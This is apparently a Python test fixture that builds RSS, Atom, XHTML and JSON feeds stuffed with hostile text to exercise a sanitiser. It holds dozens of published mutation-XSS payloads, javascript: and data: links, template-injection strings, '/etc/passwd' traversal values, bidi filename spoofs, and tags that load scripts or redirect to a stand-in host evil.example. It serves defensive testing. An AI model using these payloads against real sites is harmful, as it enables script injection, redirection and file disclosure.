"""Hostile content in every place that a feed or a setting has for text, in every format that we read."""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from typing import Any
from xml.sax.saxutils import escape, quoteattr

from tests.clean.test_markup import HOSTILE

# Mutation XSS as published against DOMPurify, Caja, Bleach and browsers' own parsers; and what runs late.
MUTATING = (
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<svg></p><style><g title='</style><img src onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><style><img src onerror=alert(1)></style></annotation-xml></math>",
    "<svg><foreignObject><style><!--</style><p title='--><img src onerror=alert(1)>'></foreignObject></svg>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>",
    "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>",
    "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    "<iframe><p title='</iframe><img src=x onerror=alert(1)>'></iframe>",
    "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>",
    "<img alt='``onerror=alert(1)' src=x>",
    "<p>&lt;img src=x onerror=alert(1)&gt;</p>",
    "&lt;!--&gt;&lt;img src=x onerror=alert(1)&gt;--&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!--x--!><img src=x onerror=alert(1)>-->",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x'>",
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)><image href=x onerror=alert(1)></svg>",
    "<svg onload=alert(1)><svg><script href=data:,alert(1) /></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<a href='feed:javascript:alert(1)'>f</a><a href='view-source:javascript:alert(1)'>v</a>",
    "<a href='java&NewLine;script&colon;alert(1)'>x</a><a href='\u00a0javascript:alert(1)'>y</a>",
    "<a href='blob:https://a.cn/x'>b</a><a href='file:///etc/passwd'>c</a><a href='intent://x#Intent;end'>d</a>",
    "<a href='https://javascript:alert(1)@evil.example/' target=_top ping=https://evil.example/ping>x</a>",
    "<form id=f action=https://evil.example/><input></form><button form=f formaction=javascript:alert(1)>x</button>",
    "<form name=body><input name=firstChild><input name=attributes><img name=getElementById></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'><meta http-equiv=set-cookie content=a=b>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'none'\">",
    "<link rel=prefetch href=https://evil.example/p><link rel=dns-prefetch href=//evil.example>"
    "<link rel=stylesheet href=https://evil.example/a.css><link rel=manifest href=https://evil.example/m>",
    "<style>@import url(https://evil.example/i.css);*{background:url(https://evil.example/b)}</style>",
    "<p style='background:url(https://evil.example/s);position:fixed;inset:0;z-index:99999'>cover</p>",
    "<img srcset='https://evil.example/x 1x' src=x onload=alert(1)><video poster=https://evil.example/v autoplay>",
    "<video src=https://evil.example/v.mp4 autoplay></video><audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<object data=https://evil.example/o></object><embed src=https://evil.example/e><applet code=x></applet>",
    "<iframe src=https://evil.example/f></iframe><iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<portal src=https://evil.example/></portal><fencedframe src=https://evil.example/></fencedframe>",
    "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https://evil.example/\"]}]}</script>",
    "<script type=module>import 'https://evil.example/m.js'</script><script src=//evil.example/s.js></script>",
    "<div popover id=p>x</div><button popovertarget=p>o</button><dialog open>modal</dialog>",
    "<p contenteditable autofocus onfocus=alert(1) tabindex=0>x</p><xss onpointerrawupdate=alert(1)>x</xss>",
    "<p id=content>x</p><a name=main id=site>x</a>",
    "{{ 7*7 }}{% for x in range(9) %}{{ ''.__class__ }}{% endfor %}{# gone #}|attach|{filename}/../x|static|",
    "\u202egnp.exe\u202c <b>\u2067abc</b> \u200fx",
)  # fmt: skip
BODIES = (*HOSTILE, *MUTATING)
LINES = (
    "<script>alert('x')</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "</title></head><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "{{ 7*7 }}{% include '/etc/passwd' %}",
    "../../../etc/passwd",
    "..\\..\\x\x00.html",
    "a/b?c#d%2e%2e%2f",
    "\u202etxt.exe\u202c\u2066",
    "שלום עולם: مرحبا!",
    "__proto__",
    "index",
    "con",
    "." * 300,
    "長" * 400,
)  # fmt: skip
LINKS = (
    "javascript:alert(1)",
    "feed:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    " java\nscript:alert(1)",
    "https://a.cn/\"><script>alert(1)</script>",
    "https://a.cn/' onclick='alert(1)",
    "//evil.example/x",
    "../../../../x",
    "https://user:pass@a.cn/{{7*7}}",
    "http://[::1",
)  # fmt: skip
RTL = LINES[11]
NAMES = LINES[:7]  # of accounts: settings refuse controls


def rss() -> str:
    """Each hostile thing in turn in every element of an item."""
    return _channel(enumerate(BODIES)) + "".join(map(_lined, range(len(LINES)))) + "</channel></rss>"


def _channel(bodies: Any) -> str:
    items = (
        f"<item><guid isPermaLink='false'>r{number}</guid><title>r{number}</title><link>https://a.cn/r{number}</link>"
        f"<description>{escape(body)}</description></item>"
        for number, body in bodies
    )
    return f"<rss version='2.0' xmlns:dc='http://purl.org/dc/elements/1.1/'><channel><title>{escape(LINES[0])}</title>{''.join(items)}"


def _lined(number: int) -> str:
    line = escape(LINES[number].replace("\x00", ""))
    link, file = LINKS[number % len(LINKS)], LINKS[(number + 3) % len(LINKS)]
    return (
        f"<item><title>{line}</title><guid isPermaLink='true'>{link if number % 2 else line}</guid>".replace(
            "<script>", "&lt;script>"
        )
        + f"<link>{escape(link)}</link><dc:creator>{line}</dc:creator><category>{line}</category>"
        f"<enclosure url={quoteattr(file)} type='{number}/x' length='1'/>"
        f"<description>来源：{line} #{line}# #共同话题#</description></item>"
    )


def atom() -> str:
    """Bodies as escaped HTML."""
    entries = (
        f"<entry><id>tag:a.cn,2026:{number}</id><title type='html'>{escape(escape(body))}</title>"
        f"<link href='https://a.cn/a{number}'/><updated>2026-11-20T00:00:00Z</updated>"
        f"<content type='html'>{escape(body)}</content></entry>"
        for number, body in enumerate(BODIES)
    )
    return f"<feed xmlns='http://www.w3.org/2005/Atom'><title>t</title>{''.join(entries)}</feed>"


def xhtml() -> str:
    """What is well-formed hostile XHTML, inline."""
    bodies: Sequence[str] = (
        "<script>alert(1)</script><p onclick='alert(1)'>x</p>",
        "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script><a href='javascript:alert(1)'>x</a></svg>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
        "<style><![CDATA[</style><img src=x onerror=alert(1)>]]></style>",
        "<math xmlns='http://www.w3.org/1998/Math/MathML' href='javascript:alert(1)'><mi>x</mi></math>",
    )
    entries = (
        f"<entry><id>x{number}</id><title>x{number}</title><link href='https://a.cn/x{number}'/>"
        f"<content type='xhtml'><div xmlns='http://www.w3.org/1999/xhtml'>{body}</div></content></entry>"
        for number, body in enumerate(bodies)
    )
    return f"<feed xmlns='http://www.w3.org/2005/Atom'><title>t</title>{''.join(entries)}</feed>"


def jsonfeed() -> str:
    """Bodies as they are, beside hostile lines."""
    items: list[Mapping[str, Any]] = [
        {
            "id": f"j{number}",
            "url": LINKS[number % len(LINKS)],
            "title": LINES[number % len(LINES)],
            "content_html": body,
            "image": LINKS[(number + 1) % len(LINKS)],
            "tags": list(LINES),
            "authors": [{"name": LINES[(number + 2) % len(LINES)]}],
        }
        for number, body in enumerate(BODIES)
    ]
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "t", "items": items})
